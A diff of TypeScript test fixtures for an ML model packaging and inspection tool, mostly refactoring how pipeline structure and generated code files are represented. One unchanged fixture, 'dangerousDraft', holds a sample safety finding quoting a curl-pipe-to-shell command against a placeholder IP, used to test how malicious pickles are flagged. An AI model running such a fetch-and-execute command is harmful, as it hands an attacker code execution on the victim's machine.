@@ -2,6 +2,7 @@ import type { ColumnView } from '$lib/ipc/generated/ColumnView';
 import type { DraftView } from '$lib/ipc/generated/DraftView';
 import type { FindingView } from '$lib/ipc/generated/FindingView';
 import type { RequirementView } from '$lib/ipc/generated/RequirementView';
+import type { StructureView } from '$lib/ipc/generated/StructureView';
 
 const HOUR = 3_600_000;
 
@@ -52,43 +53,7 @@ export function pipelineDraft(id = 'pipeline'): DraftView {
 			{ name: 'output_kind', label: 'Output', value: 'labels', source: 'RandomForestClassifier' },
 			{ name: 'n_estimators', label: 'Trees', value: '200', source: 'n_estimators' },
 		],
-		structure: {
-			name: '',
-			class: 'Pipeline',
-			path: 'sklearn.pipeline.Pipeline',
-			detail: '2 steps',
-			parts: [
-				{
-					name: 'prepare',
-					class: 'ColumnTransformer',
-					path: 'sklearn.compose._column_transformer.ColumnTransformer',
-					detail: null,
-					parts: [
-						{
-							name: 'numbers',
-							class: 'StandardScaler',
-							path: 'sklearn.preprocessing._data.StandardScaler',
-							detail: 'age, tenure_months, monthly_fee, support_calls',
-							parts: [],
-						},
-						{
-							name: 'words',
-							class: 'OneHotEncoder',
-							path: 'sklearn.preprocessing._encoders.OneHotEncoder',
-							detail: 'plan, region, payment_method',
-							parts: [],
-						},
-					],
-				},
-				{
-					name: 'model',
-					class: 'RandomForestClassifier',
-					path: 'sklearn.ensemble._forest.RandomForestClassifier',
-					detail: '200 trees, max_depth=12',
-					parts: [],
-				},
-			],
-		},
+		hasStructure: true,
 		signature: {
 			inputs: {
 				kind: 'columns',
@@ -144,25 +109,29 @@ export function pipelineDraft(id = 'pipeline'): DraftView {
 				origin: 'generated',
 				sizeBytes: 1_204,
 				text: 'flavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: "3.11"\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.9.1\n',
+				code: null,
 			},
 			{
 				path: 'conda.yaml',
 				origin: 'generated',
 				sizeBytes: 178,
 				text: 'channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==3.17.2\n  - scikit-learn==1.9.1\n  - numpy\n  - pandas\nname: mlflow-env\n',
+				code: null,
 			},
-			{ path: 'model.pkl', origin: 'rewritten', sizeBytes: 4_914_820, text: null },
+			{ path: 'model.pkl', origin: 'rewritten', sizeBytes: 4_914_820, text: null, code: null },
 			{
 				path: 'python_env.yaml',
 				origin: 'generated',
 				sizeBytes: 96,
 				text: 'python: "3.11"\nbuild_dependencies:\n- pip\n- setuptools\n- wheel\ndependencies:\n- -r requirements.txt\n',
+				code: null,
 			},
 			{
 				path: 'requirements.txt',
 				origin: 'generated',
 				sizeBytes: 53,
 				text: 'mlflow==3.17.2\nscikit-learn==1.9.1\nnumpy\npandas\n',
+				code: null,
 			},
 		],
 		exportBlocked: null,
@@ -191,7 +160,7 @@ export function boosterDraft(id = 'booster'): DraftView {
 			{ name: 'objective', label: 'Objective', value: 'binary:logistic', source: 'learner.objective.name' },
 			{ name: 'n_trees', label: 'Trees', value: '350', source: 'gbtree_model_param.num_trees' },
 		],
-		structure: null,
+		hasStructure: false,
 		signature: {
 			inputs: {
 				kind: 'tensors',
@@ -223,13 +192,15 @@ export function boosterDraft(id = 'booster'): DraftView {
 				origin: 'generated',
 				sizeBytes: 812,
 				text: 'flavors:\n  xgboost:\n    data: model.ubj\n',
+				code: null,
 			},
-			{ path: 'model.ubj', origin: 'copied', sizeBytes: 212_992, text: null },
+			{ path: 'model.ubj', origin: 'copied', sizeBytes: 212_992, text: null, code: null },
 			{
 				path: 'requirements.txt',
 				origin: 'generated',
 				sizeBytes: 30,
 				text: 'mlflow==3.17.2\nxgboost==3.2.0\n',
+				code: null,
 			},
 		],
 	};
@@ -247,7 +218,7 @@ export function dangerousDraft(id = 'dangerous'): DraftView {
 		format: 'pickle (protocol 4)',
 		modelClass: { text: 'sklearn.linear_model._logistic.LogisticRegression', source: 'pickle at byte 311' },
 		servingNote: 'Copied as it is.',
-		structure: null,
+		hasStructure: false,
 		safety: {
 			verdict: 'dangerous',
 			summary: 'Loading it runs a shell command: curl -s http://203.0.113.7/a.sh | sh',
@@ -385,4 +356,45 @@ export function ownCodeDraft(id = 'code'): DraftView {
 			{ id: 'code-missing', text: 'The model imports Ratio from shop.features', section: 'environment' },
 		],
 	};
+}
+
+/** What the pipeline is made of. */
+export function pipelineStructure(): StructureView {
+	const row = (depth: number, name: string, path: string, detail: string | null = null) => ({
+		depth,
+		name,
+		class: path.split('.').at(-1) ?? path,
+		path,
+		detail,
+		output: null,
+		nParameters: null,
+		sizeBytes: null,
+		hidden: 0,
+	});
+	return {
+		kind: 'steps',
+		rows: [
+			row(0, '', 'sklearn.pipeline.Pipeline'),
+			row(1, 'prepare', 'sklearn.compose._column_transformer.ColumnTransformer'),
+			row(2, 'numbers', 'sklearn.preprocessing._data.StandardScaler', 'age, tenure_months'),
+			row(2, 'words', 'sklearn.preprocessing._encoders.OneHotEncoder', 'plan, region'),
+			row(1, 'model', 'sklearn.ensemble._forest.RandomForestClassifier', '200 trees'),
+		],
+		hidden: 0,
+	};
+}
+
+/** A package with generated code that can be edited. */
+export function generatedCodeDraft(id = 'generated'): DraftView {
+	const draft = pipelineDraft(id);
+	const text = 'import joblib\n\n\ndef _load_pyfunc(path):\n    return joblib.load(path)\n';
+	const code = { file: 'loader.py', generated: text, edited: false, outdated: false, problem: null };
+	const file = {
+		path: 'code/mlpack_1a2b3c4d_loader.py',
+		origin: 'generated',
+		sizeBytes: text.length,
+		text,
+		code,
+	};
+	return { ...draft, files: [file, ...draft.files] };
 }
